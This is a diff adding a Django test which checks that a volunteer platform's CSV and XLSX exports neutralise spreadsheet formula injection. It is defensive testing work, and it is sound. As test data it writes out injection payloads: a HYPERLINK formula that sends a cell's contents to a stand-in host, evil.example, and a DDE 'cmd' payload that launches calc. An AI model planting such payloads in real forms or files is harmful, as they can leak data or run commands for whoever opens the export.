@@ -5,8 +5,9 @@ from django.test import Client
 from django.utils import timezone
 
 from accounts.models import User
+from missions import services
 from missions.models import Mission
-from organisations.models import Organisation
+from organisations.models import Membership, Organisation
 from organisations.services import ensure_moderators_group
 
 pytestmark = pytest.mark.django_db
@@ -72,3 +73,40 @@ def test_moderation_inspect_shows_only_the_moderators_portals(demo):
     other.refresh_from_db()
     other_mission.refresh_from_db()
     assert other.status == other_mission.status == "submitted"
+
+
+# --- 6. Exports: what volunteers type is never a formula --------------------------------------
+
+
+def test_exports_neutralise_formulas(demo):
+    import csv
+    import io
+
+    import openpyxl
+
+    organisation = organisation_on(demo["localhost"], "asso-export")
+    manager = confirmed("manager-export@example.com")
+    Membership.objects.create(organisation=organisation, user=manager)
+    mission = mission_of(organisation, "mission-export")
+    evil = confirmed(
+        "evil@example.com", first_name='=HYPERLINK("http://evil.example/?x="&C2,"Voir")',
+        last_name="+cmd|' /C calc'!A0",
+    )  # fmt: skip
+    services.apply(mission.pk, evil, "@SUM(1+1)\n-2+3")
+    tabbed = confirmed("tab@example.com", first_name="\t=1+1", last_name="\r=2+2")
+    services.apply(mission.pk, tabbed, "Bonjour")
+    url = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/candidatures"
+    client = client_for(manager)
+    rows = list(csv.reader(io.StringIO(client.get(url + ".csv", **H).content.decode())))
+    by_email = {row[2]: row for row in rows[1:]}
+    assert by_email["evil@example.com"][0] == '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")'
+    assert by_email["evil@example.com"][1].startswith("'+")
+    assert by_email["evil@example.com"][6].startswith("'@")
+    assert by_email["tab@example.com"][0] == "'\t=1+1"
+    assert by_email["tab@example.com"][1] == "'\r=2+2"
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url + ".xlsx", **H).content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    values = {cell.value for cell in cells}
+    assert '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")' in values
+    assert not any(isinstance(v, str) and v.startswith(("=", "+", "@", "-")) for v in values)
